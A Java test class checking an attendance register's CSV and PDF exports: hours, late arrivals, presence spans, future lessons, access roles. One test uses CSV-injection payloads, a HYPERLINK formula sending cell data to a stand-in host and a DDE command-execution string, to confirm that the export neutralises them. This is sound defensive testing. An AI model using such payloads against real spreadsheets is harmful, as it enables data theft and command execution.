package it.formapro.attendance.export;

import static it.formapro.attendance.support.Api.lesson;
import static it.formapro.attendance.support.Api.participant;
import static it.formapro.attendance.support.Api.tutor;
import static it.formapro.attendance.support.Exports.csv;
import static it.formapro.attendance.support.Exports.pdfText;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.oidc.server.OidcWiremockTestResource;
import it.formapro.attendance.support.Api;
import it.formapro.attendance.support.CatalogStub;
import it.formapro.attendance.support.Exports;
import it.formapro.attendance.support.FixedClock;
import it.formapro.common.time.Italy;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.LocalTime;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;

@QuarkusTest
@QuarkusTestResource(OidcWiremockTestResource.class)
@QuarkusTestResource(CatalogStub.class)
class ExportResourceTest {

    private static final long E = 2040;
    private static final LocalDate DAY = LocalDate.of(2026, 3, 2);
    private static long l1, l2;
    private static boolean built;

    private static synchronized void register() {
        if (built) {
            return;
        }
        participant(E, 801, "Mario", "Rossi", DAY);
        participant(E, 802, "Lucia", "Bianchi", DAY);
        participant(E, 803, "Sara", "Tardiva", DAY.plusDays(1));
        l1 = lesson(E, DAY, "09:00", "13:00", "1", "CLASSROOM");
        l2 = lesson(E, DAY.plusDays(1), "09:00", "12:00", "1", "LAB");
        Api.register(E, l1, Map.of(801L, 240));
        // a late arrival given as times: the register keeps them, and the exports print them
        tutor().body(Map.of("entries", List.of(Map.of("studentId", 802, "arrivedAt", "09:15", "leftAt", "13:00"))))
                .when().put("/editions/{e}/lessons/{l}/register", E, l1).then().statusCode(200);
        Api.register(E, l2, Map.of(801L, 180, 802L, 0, 803L, 90));
        built = true;
    }

    @Test
    void csvHasOneRowPerLessonAndExpectedStudentWithTheHours() throws Exception {
        register();
        List<CSVRecord> rows = csv(E);
        assertEquals(5, rows.size(), "the late joiner is not expected at the first lesson");
        CSVRecord rossiFirst = rows.stream().filter(r -> r.get("lesson_id").equals(String.valueOf(l1))
                && r.get("student_id").equals("801")).findFirst().orElseThrow();
        assertEquals("4.00", rossiFirst.get("hours_present"));
        assertEquals("4.00", rossiFirst.get("lesson_hours"));
        assertEquals("Rossi", rossiFirst.get("last_name"));
        assertEquals("2026-03-02", rossiFirst.get("date"));
        CSVRecord bianchiFirst = rows.stream().filter(r -> r.get("lesson_id").equals(String.valueOf(l1))
                && r.get("student_id").equals("802")).findFirst().orElseThrow();
        assertEquals("3.75", bianchiFirst.get("hours_present"));
        assertEquals("09:15", bianchiFirst.get("arrived_at"));
        assertEquals("13:00", bianchiFirst.get("left_at"));
        assertEquals("", rossiFirst.get("arrived_at"), "a presence given as minutes has no times");
        CSVRecord tardiva = rows.stream().filter(r -> r.get("student_id").equals("803")).findFirst().orElseThrow();
        assertEquals("1.50", tardiva.get("hours_present"));
        assertEquals("LAB", tardiva.get("modality"));
        double total = rows.stream().mapToDouble(r -> Double.parseDouble(r.get("hours_present"))).sum();
        assertEquals(4 + 3.75 + 3 + 0 + 1.5, total, 0.001);
    }

    @Test
    void pdfIsThePaperRegisterWithHoursAndTotals() throws Exception {
        register();
        byte[] pdf = tutor().when().get("/editions/{e}/register.pdf", E).then().statusCode(200)
                .contentType("application/pdf").extract().asByteArray();
        assertTrue(pdf.length > 1000);
        String text;
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            text = new PDFTextStripper().getText(doc);
        }
        assertTrue(text.contains("Addetto al servizio clienti - Pescara 2026"), text);
        assertTrue(text.contains("Standard 001"), text);
        assertTrue(text.contains("02/03/2026"), text);
        assertTrue(text.contains("Rossi Mario (801)"), text);
        assertTrue(text.contains("Bianchi Lucia (802)"), text);
        assertTrue(text.contains("09:15-13:00"), "the late arrival's times under her hours: " + text);
        assertTrue(text.contains("lesson hours: 7.00, students: 3"), text);
        // lessons x students: Rossi 4.00 and 3.00, the late joiner "-" at the lesson before she joined
        assertTrue(text.contains("Rossi Mario (801) 4.00 3.00"), text);
        assertTrue(text.contains("Tardiva Sara (803) - 1.50"), text);
        // totals: Rossi 7.00 of 7.00 (100 %), Bianchi 3.75 of 7.00 (53.57 %), Tardiva 1.50 of 3.00 (50 %)
        assertTrue(text.contains("7.00 7.00 100.00"), text);
        assertTrue(text.contains("7.00 3.75 53.57"), text);
        assertTrue(text.contains("3.00 1.50 50.00"), text);
    }

    /**
     * A lesson not held yet is in the calendar but not in the figures: its cells are blank (not 0 h present) and the
     * totals and "Present %" count only the lessons begun, as the summaries do (Lesson.heldBy).
     */
    @Test
    void aLessonAheadInTheCalendarIsBlankAndNotCounted() throws Exception {
        long e = CatalogStub.EXPORT_AHEAD;
        LocalDate today = Italy.today();
        participant(e, 901, "Ada", "Avanti", today.minusDays(30));
        participant(e, 902, "Bruno", "Avanti", today.minusDays(30));
        long held = lesson(e, today.minusDays(1), "09:00", "13:00", "1", "CLASSROOM");
        long ahead = lesson(e, today.plusDays(3), "09:00", "12:00", "1", "CLASSROOM");
        Api.register(e, held, Map.of(901L, 240, 902L, 120));

        List<CSVRecord> rows = csv(e);
        assertEquals(4, rows.size(), "the calendar is whole: both lessons, both students");
        for (CSVRecord r : rows) {
            boolean later = r.get("lesson_id").equals(String.valueOf(ahead));
            assertEquals(later ? "" : r.get("student_id").equals("901") ? "4.00" : "2.00", r.get("hours_present"), r.toString());
            assertEquals(String.valueOf(!later), r.get("recorded"), r.toString());
        }

        String text = pdfText(e);
        assertTrue(text.contains("lesson hours: 7.00, students: 2; held so far: 1 of 2 lessons, 4.00 h"), text);
        // totals over the lesson held: Ada 4.00 of 4.00 (100 %), Bruno 2.00 of 4.00 (50 %), not over 7.00
        assertTrue(text.contains("4.00 4.00 100.00"), text);
        assertTrue(text.contains("4.00 2.00 50.00"), text);
        assertFalse(text.contains("57.14") || text.contains("28.57"), "not over the whole calendar: " + text);
    }

    /** Today's lessons count once begun: one begun two hours ago and one starting in an hour. */
    @Test
    void aLessonLaterTodayIsBlankUntilItBegins() throws Exception {
        // noon in Italy, whatever the hour the suite runs at: both lessons lie within today
        LocalDateTime noon = FixedClock.todayAt(LocalTime.NOON);
        LocalTime now = noon.toLocalTime();
        long e = CatalogStub.EXPORT_TODAY;
        LocalDate today = noon.toLocalDate();
        participant(e, 911, "Ugo", "Oggi", today.minusDays(30));
        long begun = lesson(e, today, now.minusHours(2).toString(), now.minusHours(1).toString(), "1", "CLASSROOM");
        long later = lesson(e, today, now.plusHours(1).toString(), now.plusHours(2).toString(), "1", "CLASSROOM");
        Api.register(e, begun, Map.of(911L, 60));

        List<CSVRecord> rows = csv(e);
        assertEquals("1.00", rows.stream().filter(r -> r.get("lesson_id").equals(String.valueOf(begun)))
                .findFirst().orElseThrow().get("hours_present"));
        assertEquals("", rows.stream().filter(r -> r.get("lesson_id").equals(String.valueOf(later)))
                .findFirst().orElseThrow().get("hours_present"));
        String text = pdfText(e);
        assertTrue(text.contains("held so far: 1 of 2 lessons, 1.00 h"), text);
        assertTrue(text.contains("1.00 1.00 100.00"), text);
    }

    /**
     * A presence given as several spans (a student who left for a medical visit and came back) shows them in every
     * export: the CSV's spans column beside the first arrival and last exit, the PDF cell, the personal-data export.
     */
    @Test
    void everyExportShowsThePresenceSpans() throws Exception {
        long e = 1034;
        participant(e, 5301, "Vita", "Visita", DAY);
        participant(e, 5302, "Ada", "Intera", DAY);
        long l = lesson(e, DAY.plusDays(7), "09:00", "13:00", "1260", "CLASSROOM");
        tutor().body(Map.of("entries", List.of(Map.of("studentId", 5301, "spans", List.of(
                                Map.of("arrivedAt", "09:00", "leftAt", "10:00"), Map.of("arrivedAt", "10:20", "leftAt", "13:00"))),
                        Map.of("studentId", 5302, "arrivedAt", "09:10", "leftAt", "13:00"))))
                .when().put("/editions/{e}/lessons/{l}/register", e, l).then().statusCode(200);

        List<CSVRecord> rows = csv(e);
        CSVRecord visit = rows.stream().filter(r -> r.get("student_id").equals("5301")).findFirst().orElseThrow();
        assertEquals("3.67", visit.get("hours_present"));
        assertEquals("09:00", visit.get("arrived_at"));
        assertEquals("13:00", visit.get("left_at"));
        assertEquals("09:00-10:00 10:20-13:00", visit.get("spans"));
        CSVRecord whole = rows.stream().filter(r -> r.get("student_id").equals("5302")).findFirst().orElseThrow();
        assertEquals("09:10", whole.get("arrived_at"));
        assertEquals("", whole.get("spans"), "one pair is arrived_at and left_at");

        String text = pdfText(e);
        assertTrue(text.contains("09:00-10:00") && text.contains("10:20-13:00"), "each span under the hours: " + text);
        assertTrue(text.contains("09:10-13:00"), text);

        Api.frontdesk().when().get("/students/{s}/personal-data", 5301).then().statusCode(200)
                .body("attendance", org.hamcrest.Matchers.hasSize(1))
                .body("attendance[0].hoursPresent", org.hamcrest.Matchers.is(3.67f))
                .body("attendance[0].arrivedAt", org.hamcrest.Matchers.is("09:00:00"))
                .body("attendance[0].spans.arrivedAt", org.hamcrest.Matchers.contains("09:00:00", "10:20:00"))
                .body("attendance[0].spans.leftAt", org.hamcrest.Matchers.contains("10:00:00", "13:00:00"));
        Api.frontdesk().when().get("/students/{s}/personal-data", 5302).then().statusCode(200)
                .body("attendance[0].arrivedAt", org.hamcrest.Matchers.is("09:10:00"))
                .body("attendance[0].spans", org.hamcrest.Matchers.nullValue());
    }

    /**
     * Names come from third-party portals and the front desk, teachers from whoever plans the calendar: a CSV cell a
     * spreadsheet would read as a formula (one starting with = + - @, OWASP "CSV Injection") is written with a leading
     * single quote, so it opens as the text it is; ordinary names, apostrophes and hyphens inside included, are
     * written as given, and the PDF (no formulas there) prints every name as given.
     */
    @Test
    void csvCellsASpreadsheetWouldReadAsFormulasAreWrittenAsText() throws Exception {
        long e = 1036;
        String link = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Apri\")";
        participant(e, 7361, "+39 333 1234567", link, DAY);
        participant(e, 7362, "-2+3", "@SUM(1+1)", DAY);
        participant(e, 7363, "Anna-Maria", "D'Amico", DAY);
        Map<String, Object> hostile = Api.lessonBody(DAY, "09:00", "13:00", "1260", "CLASSROOM");
        hostile.put("teacher", "=cmd|' /C calc'!A0");
        long first = tutor().body(hostile).when().post("/editions/{e}/lessons", e).then().statusCode(201)
                .extract().jsonPath().getLong("id");
        long second = lesson(e, DAY.plusDays(1), "09:00", "13:00", "1260", "CLASSROOM");

        List<CSVRecord> rows = csv(e);
        assertEquals(6, rows.size(), "two lessons, three students");
        CSVRecord linked = Exports.row(rows, 7361);
        assertEquals(String.valueOf(first), linked.get("lesson_id"));
        assertEquals("'" + link, linked.get("last_name"));
        assertEquals("'+39 333 1234567", linked.get("first_name"));
        assertEquals("'=cmd|' /C calc'!A0", linked.get("teacher"));
        CSVRecord sum = Exports.row(rows, 7362);
        assertEquals("'@SUM(1+1)", sum.get("last_name"));
        assertEquals("'-2+3", sum.get("first_name"));
        CSVRecord plain = Exports.row(rows, 7363);
        assertEquals("D'Amico", plain.get("last_name"));
        assertEquals("Anna-Maria", plain.get("first_name"));
        assertEquals("1260", plain.get("unit"));
        assertEquals("CLASSROOM", plain.get("modality"));
        assertEquals("Giulia Bianchi", rows.stream().filter(r -> r.get("lesson_id").equals(String.valueOf(second)))
                .findFirst().orElseThrow().get("teacher"));
        for (CSVRecord r : rows) {
            for (String cell : r) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a formula cell: " + r);
            }
        }

        String text = pdfText(e);
        assertTrue(text.contains("@SUM(1+1) -2+3 (7362)"), text);
        assertTrue(text.contains("D'Amico Anna-Maria (7363)"), text);
    }

    @Test
    void exportsAreForTutorsAndAdmins() {
        Api.as("board", "exam-board").when().get("/editions/{e}/register.csv", E).then().statusCode(403);
        Api.frontdesk().when().get("/editions/{e}/register.pdf", E).then().statusCode(403);
    }
}
